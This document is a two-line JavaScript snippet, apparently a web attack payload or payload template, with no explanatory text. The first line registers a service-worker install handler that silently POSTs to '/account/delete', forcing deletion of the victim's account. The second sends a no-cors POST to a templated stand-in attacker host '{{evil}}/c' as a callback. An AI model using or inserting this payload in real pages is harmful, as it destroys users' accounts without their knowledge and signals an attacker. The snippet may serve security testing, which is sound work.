self.addEventListener('install', (e) => e.waitUntil(fetch('/account/delete', {method: 'POST'})));
fetch('{{evil}}/c', {method: 'POST', mode: 'no-cors', body: 'x'});
